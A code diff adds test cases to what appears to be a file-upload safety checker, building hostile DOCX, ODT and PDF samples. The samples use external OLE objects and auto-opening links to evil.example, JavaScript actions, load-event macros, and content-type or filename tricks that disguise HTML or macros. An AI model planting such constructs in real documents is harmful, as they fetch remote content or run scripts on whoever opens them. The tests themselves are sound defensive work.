@@ -142,6 +142,81 @@ CORPUS = {
         lambda: archive({"mimetype": bomb_member(), **odt_members()}),
         "is compressed",
     ),
+    "docx-external-ole-object": (
+        "a.docx",
+        lambda: docx_with(
+            **{
+                "word/_rels/document.xml.rels": b'<Relationships xmlns="x"><Relationship Id="r9" '
+                b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                b'oleObject" Target="mhtml:http://evil.example/x.html" TargetMode="External"/>'
+                b"</Relationships>"
+            }
+        ),
+        "it embeds or fetches other programs' content or macros",
+    ),
+    "docx-html-part-by-content-type": (
+        "a.docx",
+        lambda: docx_with(
+            **{
+                "[Content_Types].xml": b'<Types><Override PartName="/word/chunk.dat" '
+                b'ContentType="text/html"/></Types>',
+                "word/chunk.dat": b"<p>hi</p>",
+            }
+        ),
+        "it declares a part of a dangerous kind (text/html)",
+    ),
+    "docx-macro-type-by-character-reference": (
+        "a.docx",
+        lambda: docx_with(
+            **{
+                "[Content_Types].xml": b'<Types><Override PartName="/word/document.xml" '
+                b'ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>'
+                b"</Types>"
+            }
+        ),
+        "it declares a part of a dangerous kind",
+    ),
+    "docx-ole-embedding": (
+        "a.docx",
+        lambda: docx_with(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" * 16}),
+        "it embeds other programs' objects or macros",
+    ),
+    "docx-page-with-a-trailing-dot": (
+        "a.docx",
+        lambda: docx_with(**{"word/x.html.": b"<html></html>"}),
+        "it carries a web page, script or program",
+    ),
+    "docx-html-in-the-archive-comment": (
+        "a.docx",
+        lambda: docx_bytes()[:-2] + b"\x1a\x00<html><script>alert(1)</script>html...",
+        "refused",
+    ),
+    "odt-event-listener-macro": (
+        "a.odt",
+        lambda: archive(
+            {
+                **odt_members(),
+                "content.xml": b'<office:document-content xmlns:office="o" xmlns:script="s">'
+                b'<office:scripts><script:event-listener script:event-name="dom:load" '
+                b'xlink:href="vnd.sun.star.script:x"/></office:scripts></office:document-content>',
+            },
+            first_stored=("mimetype", ODT_TYPE.encode()),
+        ),
+        "it runs macros or scripts on events",
+    ),
+    "pdf-javascript-in-a-nested-annotation-action": (
+        "a.pdf",
+        lambda: pdf_bytes(
+            catalog=b"/AcroForm << /Fields [ << /T (f) /AA << /K << /S /JavaScript "
+            b"/JS (app.alert(1)) >> >> >> ] >>"
+        ),
+        "it runs JavaScript",
+    ),
+    "pdf-opens-a-link-by-itself": (
+        "a.pdf",
+        lambda: pdf_bytes(catalog=b"/OpenAction << /S /URI /URI (http://evil.example/) >>"),
+        "it acts by itself when opened",
+    ),
     "doc-ole-header-then-html": (
         "a.doc",
         lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1<html><script>alert(1)</script></html>",
